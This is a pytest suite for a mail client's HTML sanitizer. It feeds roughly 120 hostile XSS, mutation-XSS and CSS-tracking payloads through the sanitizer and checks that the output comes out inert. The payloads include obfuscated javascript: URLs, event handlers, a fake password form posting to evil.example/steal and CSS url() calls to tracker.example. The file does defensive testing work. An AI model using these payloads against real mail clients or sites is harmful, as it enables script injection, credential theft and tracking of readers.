"""Mail HTML as the reader's browser will see it: a hostile corpus through html_safety.

Every output is parsed again with html5lib, which follows the WHATWG parsing algorithm the way
browsers do, and checked for what could run script or fetch anything: elements and attributes
outside the allow-lists, event handlers, URLs of other schemes, remote URLs in attributes or
CSS. The vectors are written for this suite, after the families catalogued by html5sec,
OWASP's XSS filter evasion cheat sheet and DOMPurify's test fixtures.
"""
import random
import re

import html5lib
import pytest

from maildesk_mail_client.infrastructure import html_safety

ROUTE = "/maildesk/attachment/7/2?download=0"
X = "{http://www.w3.org/1999/xhtml}"
# What may appear after a browser re-parses our output (it adds html/head/body/tbody).
EXPECTED_TAGS = html_safety.ALLOWED_TAGS | {"html", "head", "body", "style", "tbody"}
EXPECTED_ATTRIBUTES = set().union(html_safety._GLOBAL_ATTRIBUTES, *html_safety._TAG_ATTRIBUTES.values(),
                                  {"target", "rel"})
CSS_FUNCTIONS = {"rgb", "rgba", "hsl", "hsla", "calc", "min", "max", "clamp"}
TRACKER = "tracker.example"

HOSTILE = [
    # scripts and event handlers
    ("script", "<script>alert(1)</script>"),
    ("script in attribute context", '<p title="x"><script src="https://evil.example/x.js"></script></p>'),
    ("event handler", '<img src=x onerror=alert(1)><body onload=alert(1)><p onclick="steal()">x</p>'),
    ("event handler after slash", "<img/src=x/onerror=alert(1)>"),
    ("uppercase handler", "<IMG SRC=x ONERROR=alert(1)>"),
    ("handler with entity", "<a href=# onmouseover&#61;alert(1)>x</a>"),
    ("svg onload", "<svg onload=alert(1)><g/onload=alert(2)//<p>"),
    ("svg script", "<svg><script>alert(1)</script><script href=data:,alert(1) /></svg>"),
    ("svg animate", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</t'
                    'ext></a></svg>'),
    ("svg set", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("math href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math mglyph style mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("body in body", "<div><body onload=alert(1) background=https://tracker.example/b.png>x</body></div>"),
    # URLs that run script
    ("javascript link", '<a href="javascript:alert(1)">x</a>'),
    ("javascript tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("javascript newline", '<a href="java\nscript:alert(1)">x</a><a href="java&#10;script:alert(1)">y</a>'),
    ("javascript entity", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#5'
                          '8;alert(1)">x</a>'),
    ("javascript colon entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("javascript leading space", '<a href=" javascript:alert(1)">x</a><a href="&#xA0;javascript:'
                                 'alert(1)">y</a>'),
    ("javascript line separator", '<a href="\u2028javascript:alert(1)">x</a>'),
    ("javascript control chars", '<a href="\x01java\x03script:alert(1)">x</a>'),
    ("javascript case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("data link base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("relative link into odoo", '<a href="/web/session/logout">x</a><a href="../odoo/action-1">y</a>'),
    ("javascript img", "<img src='javascript:while(1){}'>"),
    ("svg data image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("html data image", '<img src="data:text/html,<script>alert(1)</script>">'),
    ("relative img into odoo", '<img src="/web/session/logout"><img src="web/image/res.users/2/avatar_128">'),
    # documents, frames, plugins, forms
    ("base", '<base href="https://evil.example/"><a href="x">x</a>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("meta refresh javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("iframe", '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>">'),
    ("frameset", '<frameset><frame src="https://evil.example/"></frameset>'),
    ("object", '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>'),
    ("object data html", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    ("embed", '<embed src="https://evil.example/x.swf"><embed src="javascript:alert(1)">'),
    ("applet", '<applet code="X.class" codebase="https://evil.example/"></applet>'),
    ("form", '<form action="https://evil.example/steal"><input name=password><button>Sign in</bu'
             'tton></form>'),
    ("formaction", '<button formaction="javascript:alert(1)">x</button><input type=submit formac'
                   'tion=//evil>'),
    ("input image", '<input type="image" src="https://tracker.example/i.png">'),
    ("isindex", '<isindex type=image src=1 onerror=alert(1)>'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("link prefetch", '<link rel="prefetch" href="https://tracker.example/p">'),
    ("portal", '<portal src="https://evil.example/"></portal>'),
    # raw text elements and parser differentials (mutation XSS)
    ("escaped img stays text", "&lt;img src=x onerror=alert(1)&gt;"),
    ("noscript comment", "<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>"),
    ("noscript attribute", '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("textarea comment", "<textarea>x</textarea><!--</textarea><img src=x onerror=alert(1)>-->"),
    ("title", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("listing", '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("noembed", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>"),
    ("style in select", "<select><style></select><img src=x onerror=alert(1)></style></select>"),
    ("option iframe", "<option><iframe></select><b><script>alert(1)</script>"),
    ("template", "<template><s><template><img src=x onerror=alert(1)></template></s></template>"),
    ("comment bang", "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(2)> -->"),
    ("conditional comment", "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->"),
    ("cdata in svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("attribute quote break", '<img src=x id/=" onerror=alert(1)//">'),
    ("attribute with markup", '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>'),
    ("dom clobbering", '<img name="getElementById"><form name="cookie"></form><a id="location">x</a>'),
    ("namespaced tags", '<x:script>alert(1)</x:script><o:p>kept</o:p><v:image src="https://track'
                        'er.example/v">'),
    # remote content in attributes
    ("remote img", '<img src="https://tracker.example/pixel.gif?u=1">'),
    ("remote img protocol relative", '<img src="//tracker.example/pixel.gif">'),
    ("remote img uppercase", '<img src="HTTPS://tracker.example/p.gif">'),
    ("remote img spaced", '<img src="  https://tracker.example/p.gif  ">'),
    ("remote img backslashes", '<img src="\\\\tracker.example\\p.gif"><img src="/\\tracker.example/p">'),
    ("srcset", '<img srcset="https://tracker.example/1x.png 1x, https://tracker.example/2x.png 2x">'),
    ("picture source", '<picture><source srcset="https://tracker.example/a.webp"><img alt=a></picture>'),
    ("lowsrc dynsrc", '<img lowsrc="https://tracker.example/l.gif" dynsrc="https://tracker.example/d.avi">'),
    ("video poster", '<video poster="https://tracker.example/poster.png" src="https://tracker.ex'
                     'ample/v.mp4"></video>'),
    ("audio", '<audio src="https://tracker.example/a.mp3" autoplay></audio>'),
    ("background attribute", '<table background="https://tracker.example/bg.png"><tr><td '
                             'background="//tracker.example/td.png">x</td></tr></table>'),
    ("ping", '<a href="https://ok.example/" ping="https://tracker.example/ping">x</a>'),
    ("svg image", '<svg><image href="https://tracker.example/s.png"/><image xlink:href="https://'
                  'tracker.example/x.png"/></svg>'),
    ("svg use", '<svg><use href="https://tracker.example/s.svg#x"/><feImage href="https://tracke'
                'r.example/f"/></svg>'),
    ("longdesc cite", '<img longdesc="https://tracker.example/l"><blockquote cite="https://track'
                      'er.example/c">q</blockquote>'),
    ("usemap area", '<img usemap="#m"><map name="m"><area href="javascript:alert(1)" shape=rect '
                    'coords=0,0,9,9></map>'),
    ("fake unblock attributes", '<img src="https://tracker.example/p.gif" data-maildesk-src="htt'
                                'ps://tracker.example/p.gif" '
                                'data-maildesk-allowed="1" class="maildesk-remote-allowed o_allowed">'),
    ("fake placeholder", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-maildesk-sr'
                         'c="https://tracker.example/x">'),
    # remote content in CSS
    ("css url", '<div style="background:url(https://tracker.example/bg.png)">x</div>'),
    ("css url quoted", "<div style=\"background-image: url('//tracker.example/bg.png')\">x</div>"),
    ("css url escaped", '<div style="background:\\75rl(https://tracker.example/e.png)">x</div>'),
    ("css url escaped paren", '<div style="background:url\\28https://tracker.example/e.png\\29">x</div>'),
    ("css url escaped letters", '<div style="background:u\\r\\l(https://tracker.example/e.png)">x</div>'),
    ("css url comment", '<div style="background:ur/**/l(https://tracker.example/c.png)">x</div>'),
    ("css url entity", '<div style="background:url&#40;https://tracker.example/n.png&#41;">x</div>'),
    ("css image-set", '<div style="background-image:image-set(\'https://tracker.example/i.png\' '
                      '1x)">x</div>'),
    ("css webkit image-set", '<div style="background:-webkit-image-set(url(//tracker.example/w.p'
                             'ng) 1x)">x</div>'),
    ("css list-style", '<ul style="list-style:url(https://tracker.example/l.png)"><li>x</li></ul>'),
    ("css cursor", '<div style="cursor:url(https://tracker.example/c.cur),auto">x</div>'),
    ("css content", '<div style="content:url(https://tracker.example/c.png)">x</div>'),
    ("css border-image", '<div style="border-image:url(https://tracker.example/b.png) 30">x</div>'),
    ("css expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css expression escaped", '<div style="width:exp\\72 ession(alert(1))">x</div>'),
    ("css behavior", '<div style="behavior:url(https://evil.example/x.htc)">x</div>'),
    ("css moz-binding", '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>'),
    ("css javascript", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("css position overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-i'
                             'ndex:9999">x</div>'),
    ("css var attr", '<div style="--u:url(https://tracker.example/v);background:var(--u)">x</div>'),
    ("style import", '<style>@import url("https://tracker.example/i.css");</style><p>x</p>'),
    ("style import bare", "<style>@import 'https://tracker.example/i.css'</style><p>x</p>"),
    ("style import escaped", "<style>@\\69mport url(//tracker.example/e.css);</style><p>x</p>"),
    ("style font-face", "<style>@font-face{font-family:x;src:url(https://tracker.example/f.woff)}</style>"),
    ("style url", "<style>p{background:url(https://tracker.example/s.png)}</style><p>x</p>"),
    ("style escaped url", "<style>p{background:\\75rl(https://tracker.example/s.png)}</style><p>x</p>"),
    ("style close tag", "<style>p{color:red}</style><style>/*</style><img src=x onerror=alert(1)>*/</style>"),
    ("style string close", "<style>p{font-family:'</style><script>alert(1)</script>'}</style>"),
    ("style escaped lt", "<style>p{font-family:'\\3c/style\\3e\\3cscript\\3e alert(1)'}</style><p>x</p>"),
    ("style media url", "<style>@media screen{p{background:url(https://tracker.example/m.png)}}</style>"),
    ("style media function", "<style>@media (min-resolution:url(x)){p{color:red}}</style>"),
    ("style nested rule", "<style>p{color:red;a{background:url(https://tracker.example/n.png)}}</style>"),
    ("style attribute selector", "<style>input[value^=a]{background:url(https://tracker.example/a)}</style>"),
    ("style sibling of body", "<style>body + div, body ~ * {display:none}</style><p>x</p>"),
    ("style keyframes", "<style>@keyframes k{from{background:url(https://tracker.example/k)}}</style>"),
    ("style in svg", "<svg><style>p{background:url(https://tracker.example/svg)}</style></svg>"),
    ("style namespace", "<style>@namespace url(https://tracker.example/ns);</style>"),
    ("style comment cdo", "<style><!-- p{color:red} --></style><p>x</p>"),
    ("control characters", "a\x00b\x01c\x0bd<p \x00onclick=alert(1)>e</p>\ud800"),
]


def css_problems(css, context):
    """What in a piece of CSS could load or run something (checked independently of the
    module: no escapes at all, no function but colours and arithmetic, no at-rule but @media)."""
    found = []
    lowered = css.lower()
    if "\\" in css:
        found.append(f"{context}: an escape survived")
    for word in ("url", "image-set", "expression", "javascript", "behavior", "binding", "@import",
                 "@font-face", "@namespace", "src(", "var(", "attr(", "position", "</"):
        if word in lowered:
            found.append(f"{context}: {word!r} in {css!r}")
    media_queries = re.findall(r"@media([^{]*)\{", css)
    if any(re.search(r"[\w-]\(", query) for query in media_queries):
        found.append(f"{context}: a function in a media query")
    for name in re.findall(r"([\w-]*)\(", re.sub(r"@media[^{]*\{", "", css)):
        if name.lower() not in CSS_FUNCTIONS:
            found.append(f"{context}: function {name!r}( in {css!r}")
    for at_rule in re.findall(r"@([\w-]+)", css):
        if at_rule.lower() != "media":
            found.append(f"{context}: @{at_rule}")
    return found


def problems(markup, allow_remote=False):
    """Everything in ``markup`` a browser could run or fetch, as html5lib parses it."""
    found = []
    document = html5lib.parse(markup)
    for element in document.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        if not tag:
            continue
        if not tag.startswith(X):
            found.append(f"foreign element {tag}")
            continue
        name = tag[len(X):]
        if name not in EXPECTED_TAGS:
            found.append(f"element <{name}>")
        if name == "style":
            found += css_problems(element.text or "", "<style>")
        for attribute, value in element.attrib.items():
            if attribute not in EXPECTED_ATTRIBUTES:
                found.append(f"attribute {attribute} on <{name}>")
            if attribute.startswith("on"):
                found.append(f"event handler {attribute}")
            if attribute == "style":
                found += css_problems(value, f"style on <{name}>")
            if attribute == "href":
                if not re.match(r"(https?://[^/\\]|mailto:|tel:)", value, re.I):
                    found.append(f"link {value!r}")
                elif (element.get("target"), element.get("rel")) != ("_blank", "noopener noreferrer"):
                    found.append(f"link {value!r} not opened apart")
            elif attribute in ("src", "background"):
                if value.startswith(("/maildesk/attachment/", "data:image/png;base64,",
                                     "data:image/gif;base64,")):
                    continue
                if not (allow_remote and re.match(r"https?://[^/\\]", value, re.I)):
                    found.append(f"{attribute}={value!r} on <{name}>")
            elif attribute not in ("title", "alt", "style") and re.search(r"(?:https?:)?//|\w:", value):
                found.append(f"a URL in {attribute}={value!r}")
            if not allow_remote and attribute not in ("href", "title", "alt") and TRACKER in value:
                found.append(f"remote address in {attribute}")
    return found


def texts(markup):
    return "".join(html5lib.parse(markup).itertext())


@pytest.mark.parametrize("name,payload", HOSTILE, ids=[n for n, _ in HOSTILE])
def test_hostile_markup_comes_out_inert(name, payload):
    for allow_remote in (False, True):
        safe = html_safety.sanitize(payload, allow_remote=allow_remote).html
        assert problems(safe, allow_remote) == [], (name, allow_remote, safe)
        # and again once quoted in a reply and a forward
        for blockquote in (True, False):
            quoted = html_safety.quote(["On Monday, Eve <eve@example.org> wrote:"], safe, blockquote)
            assert problems(quoted, allow_remote) == [], (name, quoted)
    assert "alert" not in "".join(html5lib.parse(safe).itertext()) or name in (
        "escaped img stays text", "listing", "attribute with markup"), safe


def test_the_whole_corpus_in_one_document_is_inert():
    document = "<html><head>" + "".join(p for _, p in HOSTILE[:40]) + "</head><body>" + \
        "".join(p for _, p in HOSTILE) + "</body></html>"
    assert problems(html_safety.sanitize(document).html) == []


def test_escaped_markup_stays_text_in_the_body_a_reply_and_a_forward():
    payload = "<p>Look: &lt;img src=x onerror=alert(1)&gt; and &lt;script&gt;alert(2)&lt;/script&gt;</p>"
    safe = html_safety.sanitize(payload).html
    reply = html_safety.quote(["Eve <eve@example.org> &lt;img src=x onerror=alert(3)&gt;:"], safe)
    forward = html_safety.quote(["From: <img src=x onerror=alert(4)>", "Subject: &lt;b&gt;"], safe,
                                blockquote=False)
    for markup in (safe, reply, forward, html_safety.sanitize(reply).html):
        parsed = html5lib.parse(markup)
        assert not parsed.findall(f".//{X}script") and not parsed.findall(f".//{X}img")
        assert "<img src=x onerror=alert(1)>" in texts(markup)
        assert "<script>alert(2)</script>" in texts(markup)
    assert "Eve <eve@example.org> &lt;img src=x onerror=alert(3)&gt;:" in texts(reply)
    assert "From: <img src=x onerror=alert(4)>" in texts(forward)
    assert "Subject: &lt;b&gt;" in texts(forward)


def test_a_plain_text_body_is_text():
    markup = html_safety.text_to_html("Hi\n<script>alert(1)</script>\n&lt;b&gt;")
    assert problems(markup) == []
    assert "<script>alert(1)</script>\n&lt;b&gt;" in texts(markup)


def test_remote_images_are_blocked_counted_and_back_only_when_allowed():
    payload = ('<p>News<img src="https://tracker.example/pixel.gif" alt="logo" width="1">'
               '<img src="//cdn.example/banner.png"><img src="javascript:alert(1)">'
               '<table background="https://cdn.example/bg.png"><tr><td>x</td></tr></table>'
               '<img srcset="https://cdn.example/2x.png 2x" src="https://cdn.example/1x.png"></p>')
    blocked = html_safety.sanitize(payload)
    assert blocked.remote_blocked == 4
    assert "tracker.example" not in blocked.html and "cdn.example" not in blocked.html
    assert 'alt="logo"' in blocked.html, "the reader still sees what the image was"
    allowed = html_safety.sanitize(payload, allow_remote=True)
    assert allowed.remote_blocked == 0
    sources = [img.get("src") for img in html5lib.parse(allowed.html).iter(f"{X}img")]
    assert sources == ["https://tracker.example/pixel.gif", "https://cdn.example/banner.png", None,
                       "https://cdn.example/1x.png"]
    assert 'background="https://cdn.example/bg.png"' in allowed.html
    assert "srcset" not in allowed.html and "javascript" not in allowed.html
    assert problems(allowed.html, allow_remote=True) == []


def test_nothing_a_sender_writes_unblocks_an_image():
    payload = ('<img src="https://tracker.example/a.gif" data-maildesk-src="https://tracker.example/a.gif" '
               'data-maildesk-allowed="true" class="maildesk-remote-allowed maildesk-body">'
               '<div class="maildesk-body" data-allow-remote="1"><img src="https://tracker.examp'
               'le/b.gif"></div>')
    safe = html_safety.sanitize(payload)
    assert TRACKER not in safe.html and "data-" not in safe.html
    assert safe.remote_blocked == 2
    # the sender's classes are renamed, so none can be ours (or Odoo's)
    classes = {c for e in html5lib.parse(safe.html).iter() for c in (e.get("class") or "").split()}
    assert classes == {"maildesk-body", "mdm-maildesk-remote-allowed", "mdm-maildesk-body"}
    # sanitising our own output again does not unblock anything either
    assert TRACKER not in html_safety.sanitize(safe.html).html


def test_inline_cid_images_use_the_attachment_route():
    urls = {"logo@mail.example": ROUTE}
    payload = ('<img src="cid:logo@mail.example"><img src="CID:%3Clogo@mail.example%3E">'
               '<img src="cid:missing@mail.example"><div style="background:url(cid:logo@mail.exa'
               'mple)">x</div>')
    safe = html_safety.sanitize(payload, cid_url=urls.get)
    sources = [img.get("src") for img in html5lib.parse(safe.html).iter(f"{X}img")]
    assert sources == [ROUTE, ROUTE, None]
    assert safe.remote_blocked == 0
    assert problems(safe.html) == []
    # a sender cannot point an image at the route (or anywhere in Odoo) directly
    assert "/maildesk/" not in html_safety.sanitize('<img src="/maildesk/attachment/1/2?download=0">').html


def test_raster_data_images_stay_other_data_goes():
    png = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9"
           "QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    safe = html_safety.sanitize(f'<img src="{png}"><img src="data:image/svg+xml,<svg/onload=alert(1)>">'
                                f'<img src="data:text/html;base64,PHNjcmlwdD4=">').html
    sources = [img.get("src") for img in html5lib.parse(safe).iter(f"{X}img")]
    assert sources == [png, None, None]


def test_an_ordinary_newsletter_keeps_its_layout_and_links():
    payload = """<html><head><style>
      .button { background-color: #0a7; color: #fff !important; padding: 8px 12px }
      @media (max-width: 600px) { .column { width: 100% } }
      @media(max-width:480px){.body{color:red}}
      body { font-family: "Segoe UI", Arial, sans-serif }
    </style></head><body>
    <table width="600" cellpadding="0" align="center" style="border-collapse: collapse">
      <tr><td class="column" style="color: rgb(20, 20, 20); font-size: 14px">Hello <b>Ann</b>,</td></tr>
      <tr><td><a class="button" href="https://shop.example/deal?id=1&amp;u=2">Open the deal</a></td></tr>
      <tr><td><a href="mailto:help@shop.example">help@shop.example</a></td></tr>
    </table></body></html>"""
    safe = html_safety.sanitize(payload).html
    assert problems(safe) == []
    parsed = html5lib.parse(safe)
    link = parsed.find(f".//{X}a")
    assert link.get("href") == "https://shop.example/deal?id=1&u=2"
    assert (link.get("target"), link.get("rel")) == ("_blank", "noopener noreferrer")
    assert link.get("class") == "mdm-button"
    assert parsed.find(f".//{X}table").get("width") == "600"
    css = parsed.find(f".//{X}style").text
    assert (".maildesk-body .mdm-button { background-color: #0a7; color: #fff !important; padding"
            ": 8px 12px }") in css
    assert "@media (max-width: 600px)" in css and ".maildesk-body .mdm-column { width: 100% }" in css
    assert '.maildesk-body { font-family: "Segoe UI", Arial, sans-serif }' in css
    assert "@media (max-width:480px) {\n.maildesk-body .mdm-body { color: red }\n}" in css
    assert "color: rgb(20, 20, 20); font-size: 14px" in safe
    assert "Hello Ann," in " ".join(texts(safe).split())


@pytest.mark.parametrize("declarations,kept", [
    ("color: red; position: fixed; z-index: 99", "color: red"),
    ("COLOR: Blue", "color: Blue"),
    ("color: \\72\\65\\64", "color: red"),  # escapes decoded; we write what we checked
    ("font-family: 'a;b', serif; color: red", "font-family: 'a;b', serif; color: red"),
    ("background: #fff url(x.png)", ""),
    ("width: calc(100% - 2px)", "width: calc(100% - 2px)"),
    ("width: calc((100% - 2px))", ""),
    ("color: red; width: expression(alert(1))", "color: red"),
    ("margin: 0 !important", "margin: 0 !important"),
    ("color: red !ie", ""),
    ("font-family: \"x\\\"y\"", ""),
    ("color: red /* ; background: url(x) */; padding: 1px", "color: red; padding: 1px"),
])
def test_style_attributes_keep_only_allowed_declarations(declarations, kept):
    assert html_safety.filter_declarations(declarations) == kept


def test_unparseable_or_empty_input_gives_an_empty_body():
    for payload in ("", "   ", None, "\x00\x00", "<!-- only a comment -->"):
        assert html_safety.sanitize(payload).html == \
            '<div class="maildesk-body" style="contain: paint"></div>'


def test_an_xhtml_mail_with_an_xml_declaration_is_read():
    payload = ('<?xml version="1.0" encoding="utf-8"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml">'
               "<body><p>Quarterly figures</p></body></html>")
    assert "<p>Quarterly figures</p>" in html_safety.sanitize(payload).html


# Pieces that, shuffled, make broken markup of the kinds parsers disagree on.
PIECES = ["<", ">", "</", "/>", "'", '"', "=", " ", "\n", "&", "&lt;", "&gt;", "&quot;", "&#0;", "&#x3c;",
          "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<style>", "</style>", "<script>", "</script>", "<svg>",
          "</svg>", "<math>", "<mtext>", "<mglyph>", "<table>", "<td>", "<tr>", "<noscript>", "</noscript>",
          "<textarea>", "</textarea>", "<title>", "<img", "<a", "<p", "<div", "<font", "<select>", "<option>",
          "<template>", "<xmp>", "<iframe>", "<form>", "<input", " src=", " href=", " style=", " onerror=",
          " class=", " id=", " background=", " title=", "javascript:", "https://tracker.example/x",
          "//tracker.example", "url(", "\\75rl(", ")", "{", "}", ";", ":", "color:red", "background:",
          "@import", "@media", "expression(", "alert(1)", "cid:x", "data:image/png;base64,AAAA", "\\",
          "\\3c ", "/*", "*/", "`", "\u2028", "\x0c", "\t"]


@pytest.mark.parametrize("seed", range(4))
def test_random_broken_markup_comes_out_inert(seed):
    rng = random.Random(seed)
    for _ in range(400):
        payload = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 60)))
        for allow_remote in (False, True):
            safe = html_safety.sanitize(payload, allow_remote=allow_remote, cid_url=lambda _cid: ROUTE).html
            assert problems(safe, allow_remote) == [], (payload, safe)


def test_the_body_cannot_paint_outside_its_box():
    safe = html_safety.sanitize('<style>body, div { contain: none; margin-top: -500px }</style><div '
                                'style="contain: none; margin-left: -9999px">fake Odoo button</div>').html
    wrapper = html5lib.parse(safe).find(f".//{X}div")
    assert (wrapper.get("class"), wrapper.get("style")) == ("maildesk-body", "contain: paint")
    assert "contain: none" not in safe


def test_deeply_nested_mail_keeps_its_text_and_what_follows():
    payload = "<div><span>" * 600 + "deep inside" + "</span></div>" * 600 + "<p>after the nest</p>"
    text = texts(html_safety.sanitize(payload).html)
    assert "deep inside" in text and "after the nest" in text
    order = html_safety.sanitize("<b>1<font>2<i>3</i>4</font>5<o:p>6<u>7</u>8</o:p>9</b>0").html
    assert texts(order) == "1234567890"


@pytest.mark.parametrize("void", ["embed", "source", "track", "param", "input", "meta", "link",
                                  "base", "area", "keygen"])
def test_text_after_a_dropped_void_element_is_kept(void):
    # libxml2 nests what follows <embed> & co. inside them; a browser shows it after them.
    html = html_safety.sanitize(f'<p>before</p><{void} src="x.swf"><p>after it</p><div>and more</div>')
    assert "after it" in html.html and "and more" in html.html
    assert f"<{void}" not in html.html
